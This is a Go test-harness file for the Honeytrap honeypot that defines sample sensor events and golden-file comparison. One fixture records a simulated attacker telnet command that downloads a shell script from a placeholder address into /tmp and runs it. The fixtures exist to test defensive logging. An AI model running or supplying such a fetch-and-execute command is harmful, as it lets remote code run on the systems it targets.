@@ -0,0 +1,139 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package harness
+
+import (
+	"bytes"
+	"flag"
+	"io/ioutil"
+	"net"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/honeytrap/honeytrap/event"
+)
+
+var update = flag.Bool("update-golden", false, "update the golden files in testdata")
+
+// FixtureDate is the date of the fixtures, so the output of channels is
+// reproducible.
+var FixtureDate = time.Date(2019, 6, 1, 12, 0, 0, 0, time.UTC)
+
+// Fixture is an event representative for the events of the sensor.
+type Fixture struct {
+	Name  string
+	Event event.Event
+}
+
+// Fixtures returns the golden event fixtures: sessions, authentication,
+// requests, payloads, high severity events and events with characters that
+// need escaping.
+func Fixtures() []Fixture {
+	source := &net.TCPAddr{IP: net.ParseIP("198.51.100.7"), Port: 51234}
+
+	fixture := func(name string, options ...event.Option) Fixture {
+		return Fixture{
+			Name: name,
+			Event: event.New(append([]event.Option{
+				event.Sensor("honeytrap"),
+				event.SourceAddr(source),
+				event.Custom("date", FixtureDate),
+			}, options...)...),
+		}
+	}
+
+	return []Fixture{
+		fixture("ssh-password",
+			event.Category("ssh"),
+			event.Type("password-authentication"),
+			event.Service("ssh"),
+			event.DestinationAddr(&net.TCPAddr{IP: net.ParseIP("192.0.2.1"), Port: 22}),
+			event.Custom("ssh.username", "root"),
+			event.Custom("ssh.password", "123456"),
+		),
+		fixture("http-request",
+			event.Category("http"),
+			event.Type("request"),
+			event.Service("http"),
+			event.DestinationAddr(&net.TCPAddr{IP: net.ParseIP("192.0.2.1"), Port: 80}),
+			event.Custom("http.method", "GET"),
+			event.Custom("http.url", "/.env"),
+			event.Custom("http.header.user-agent", "Mozilla/5.0 (compatible; scanner/1.0)"),
+		),
+		fixture("telnet-payload",
+			event.Category("telnet"),
+			event.Type("command"),
+			event.Service("telnet"),
+			event.DestinationAddr(&net.TCPAddr{IP: net.ParseIP("192.0.2.1"), Port: 23}),
+			event.Custom("telnet.command", "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh"),
+			event.Payload([]byte("cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh\r\n")),
+		),
+		fixture("critical",
+			event.Category("ssh"),
+			event.Type("session-ended"),
+			event.Service("ssh"),
+			event.Custom("severity", "critical"),
+			event.Custom("severity.score", 95.5),
+			event.Custom("severity.rules", []string{"known-c2", "dropper"}),
+		),
+		fixture("escaping",
+			event.Category("http"),
+			event.Type("request"),
+			event.Service("http"),
+			event.Custom("http.url", "/a=b|c\\d"),
+			event.Custom("http.header.x-note", "line\nbreak\ttab \"quoted\" ünïcode"),
+		),
+	}
+}
+
+// FixtureEvent returns the event of the fixture, it panics when the fixture
+// doesn't exist.
+func FixtureEvent(name string) event.Event {
+	for _, f := range Fixtures() {
+		if f.Name == name {
+			return f.Event
+		}
+	}
+
+	panic("unknown fixture " + name)
+}
+
+// Golden compares the output with the golden file testdata/name, the golden
+// file is written when the tests run with -update-golden.
+func Golden(t testing.TB, name string, output []byte) {
+	path := filepath.Join("testdata", name)
+
+	if *update {
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatal(err)
+		}
+
+		if err := ioutil.WriteFile(path, output, 0644); err != nil {
+			t.Fatal(err)
+		}
+
+		return
+	}
+
+	expected, err := ioutil.ReadFile(path)
+	if err != nil {
+		t.Fatalf("Error reading golden file, run with -update-golden to create it: %s", err.Error())
+	}
+
+	if !bytes.Equal(expected, output) {
+		t.Errorf("Output differs from golden file %s, run with -update-golden to update it\nexpected:\n%s\ngot:\n%s", path, expected, output)
+	}
+}